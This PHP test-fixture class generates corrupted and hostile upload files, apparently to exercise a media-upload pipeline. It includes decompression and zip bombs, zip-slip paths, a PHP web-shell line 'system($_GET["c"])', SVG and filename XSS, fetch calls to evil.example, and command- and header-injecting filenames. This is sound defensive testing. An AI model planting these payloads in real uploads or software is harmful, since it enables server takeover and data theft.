<?php

declare(strict_types=1);

namespace Bench\Faults;

use Generator;
use Random\Engine\Mt19937;
use Random\Randomizer;
use ZipArchive;

/** Files that somebody might send by mischance or on purpose: cut, flipped, dressed up, blown up. The same for the same seed. */
final class HostileFiles
{
    private Randomizer $chance;

    /**
     * @param  string  $folder  with a clip.mp4 and a clip.webm
     */
    public function __construct(private readonly string $folder, int $seed)
    {
        $this->chance = new Randomizer(new Mt19937($seed));
    }

    /**
     * @return Generator<string, string> bytes by name
     */
    public function all(): Generator
    {
        yield from $this->dressedUp();
        yield from $this->blownUp();
        yield from $this->badNames();
        foreach ($this->sound() as $ending => $bytes) {
            yield from $this->spoilt($ending, $bytes);
        }
    }

    /**
     * @return array<string, string> of files that are as they should be, by ending
     */
    private function sound(): array
    {
        $image = imagecreatetruecolor(320, 200);
        for ($i = 0; $i < 60; $i++) {
            imagefilledellipse($image, $this->chance->getInt(0, 320), $this->chance->getInt(0, 200), $this->chance->getInt(5, 90), $this->chance->getInt(5, 90), $this->chance->getInt(0, 0xFFFFFF));
        }
        $sound = [];
        foreach (['jpg' => imagejpeg(...), 'png' => imagepng(...), 'gif' => imagegif(...), 'webp' => imagewebp(...), 'avif' => imageavif(...)] as $ending => $write) {
            ob_start();
            $write($image);
            $sound[$ending] = (string) ob_get_clean();
        }
        $zip = $this->zip(['a.jpg' => $sound['jpg'], 'b.png' => $sound['png'], 'c/d.webp' => $sound['webp']]);

        return [...$sound, 'mp4' => (string) file_get_contents("{$this->folder}/clip.mp4"), 'webm' => (string) file_get_contents("{$this->folder}/clip.webm"), 'zip' => $zip, 'vtt' => "WEBVTT\n\n00:01.000 --> 00:04.000\nWind.\n"];
    }

    /**
     * @return Generator<string, string>
     */
    private function spoilt(string $ending, string $bytes): Generator
    {
        $length = strlen($bytes);
        for ($i = 0; $i < 12; $i++) {
            yield "cut {$i}.{$ending}" => substr($bytes, 0, (int) ($length * ($i + 0.5) / 12));
        }
        for ($i = 0; $i < 20; $i++) {
            $flipped = $bytes;
            for ($n = 0; $n <= $i * 2; $n++) {
                $at = $this->chance->getInt(0, $length - 1);
                $flipped[$at] = chr(ord($flipped[$at]) ^ 1 << $this->chance->getInt(0, 7));
            }
            yield "flipped {$i}.{$ending}" => $flipped;
        }
        for ($i = 0; $i < 5; $i++) {
            $from = $this->chance->getInt(0, max(0, $length - 64));
            yield "emptied {$i}.{$ending}" => substr_replace($bytes, str_repeat("\0", min(64 * ($i + 1), $length - $from)), $from, min(64 * ($i + 1), $length - $from));
        }
        yield "twice.{$ending}" => $bytes.$bytes;
        yield "with noise.{$ending}" => $bytes.$this->chance->getBytes(5000);
        yield "noise under a head.{$ending}" => substr($bytes, 0, 24).$this->chance->getBytes(8000);
        yield 'under another name.'.($ending === 'jpg' ? 'png' : 'jpg') => $bytes;
        yield "with a script.{$ending}" => $bytes.'<script>alert(1)</script><?php system($_GET["c"]);';
        yield "head alone.{$ending}" => substr($bytes, 0, 12);
    }

    /**
     * @return Generator<string, string>
     */
    private function dressedUp(): Generator
    {
        $texts = [
            'drawing.jpg' => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>',
            'page.png' => '<!doctype html><script>fetch("//evil.example")</script>', 'program.gif' => '<?php phpinfo();', 'gif.php.gif' => 'GIF89a<?php phpinfo();',
            'laughs.jpg' => '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>', 'empty.jpg' => '', 'one.jpg' => "\xFF", 'newline.png' => "\n",
            'letter.pdf.jpg' => "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj", 'program.exe.jpg' => "MZ\x90\0\x03", 'elf.jpg' => "\x7FELF\x02\x01\x01", 'tiff.jpg' => "II*\0\x08\0\0\0", 'bmp.jpg' => "BM\x36\0\0\0\0\0\0\0\x36\0\0\0",
            'photo.psd' => "8BPS\0\x01".str_repeat("\0", 30), 'list.mp4' => "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", 'words.vtt' => "WEBVTT\n\nno time at all", 'words of none.vtt' => "WEBVTT\n\n00:01.000 --> 00:02.000\nx",
            'magick.jpg' => 'push graphic-context viewbox 0 0 1 1 fill "url(https://evil.example/)" pop graphic-context', 'utf16.jpg' => "\xFF\xFEJ\0P\0G\0", 'nul.jpg' => str_repeat("\0", 4096), 'noise.jpg' => $this->chance->getBytes(9000),
        ];
        yield from $texts;
    }

    /**
     * @return Generator<string, string>
     */
    private function blownUp(): Generator
    {
        foreach ([[65535, 65535], [1, 65535], [2147483647, 1], [0, 0], [100000, 100000], [30000, 30000]] as $i => [$width, $height]) {
            yield "huge {$i}.png" => self::png($width, $height, '');
            yield "huge {$i}.gif" => 'GIF89a'.pack('vv', $width & 0xFFFF, $height & 0xFFFF)."\x80\0\0\0\0\0\xFF\xFF\xFF,\0\0\0\0".pack('vv', $width & 0xFFFF, $height & 0xFFFF)."\0\x02\x02\x44\x01\0;";
        }
        // Words that unpack to 40 MB, and a colour profile that does.
        $much = (string) gzcompress(str_repeat('kite ', 8 * 1024 * 1024), 9);
        yield 'says much.png' => self::png(40, 30, self::chunk('zTXt', "Comment\0\0{$much}"), true);
        yield 'says much about colours.png' => self::png(40, 30, self::chunk('iCCP', "sRGB\0\0{$much}"), true);
        yield 'says much in letters.png' => self::png(40, 30, self::chunk('iTXt', "XML:com.adobe.xmp\0\1\0\0\0{$much}"), true);
        yield 'in a ZIP.zip' => $this->zip(['kite.png' => self::png(40, 30, self::chunk('zTXt', "Comment\0\0{$much}"), true)]);
        yield 'grows.zip' => $this->zip(['kite.jpg' => str_repeat("\0", 30 * 1024 * 1024)]);
        yield 'leads out.zip' => $this->zip(['../../kite.jpg' => 'x', '/etc/kite.jpg' => 'x', 'C:\\kite.jpg' => 'x']);
        yield 'in each other.zip' => $this->zip(['inner.zip' => $this->zip(['inner.zip' => $this->zip(['a.jpg' => 'x'])])]);
        yield 'nothing.zip' => "PK\5\6".str_repeat("\0", 18);
        yield 'many.zip' => $this->zip(array_fill_keys(array_map(static fn (int $i): string => "{$i}.jpg", range(1, 2100)), 'x'));
        yield 'endless.mp4' => pack('N', 24).'ftypisom'.str_repeat("\0", 12).pack('N', 1).'moov'.pack('J', PHP_INT_MAX).str_repeat("\0", 500);
        yield 'nested.mp4' => pack('N', 24).'ftypisom'.str_repeat("\0", 12).implode('', array_map(static fn (int $i): string => pack('N', 8 * (400 - $i)).'moov', range(0, 399)));
        yield 'segments.jpg' => "\xFF\xD8".str_repeat("\xFF\xE1\xFF\xFFExif\0\0".str_repeat('A', 65527), 60)."\xFF\xD9";
    }

    /**
     * @return Generator<string, string>
     */
    private function badNames(): Generator
    {
        $sound = $this->sound()['jpg'];
        foreach (['../../../etc/passwd.jpg', "kite\0.php.jpg", "kite\u{202E}gpj.exe", str_repeat('långt ', 900).'.jpg', "\xFF\xFE\xC3.jpg", '.htaccess', 'con.jpg', '"><img src=x onerror=alert(1)>.jpg', "a\r\nSet-Cookie: x=1.jpg", '%s%n%x.jpg', '-rf.jpg', '@/etc/passwd', 'kite.jpg[page=-1]', '|touch x.jpg', ' ', '🪁.jpg'] as $i => $name) {
            yield $name => $sound.$i;
        }
    }

    private static function png(int $width, int $height, string $more, bool $isWhole = false): string
    {
        $rows = $isWhole ? str_repeat("\0".str_repeat("\x40", $width * 3), $height) : '';

        return "\x89PNG\r\n\x1a\n".self::chunk('IHDR', pack('NN', $width, $height)."\x08\x02\0\0\0").$more.self::chunk('IDAT', (string) gzcompress($rows)).self::chunk('IEND', '');
    }

    private static function chunk(string $type, string $data): string
    {
        return pack('N', strlen($data)).$type.$data.pack('N', crc32($type.$data));
    }

    /**
     * @param  array<string, string>  $files
     */
    private function zip(array $files): string
    {
        $path = sys_get_temp_dir().'/hostile-'.bin2hex(random_bytes(6)).'.zip';
        $zip = new ZipArchive;
        $zip->open($path, ZipArchive::CREATE);
        foreach ($files as $name => $bytes) {
            $zip->addFromString($name, $bytes);
        }
        $zip->close();
        $bytes = (string) file_get_contents($path);
        unlink($path);

        return $bytes;
    }
}
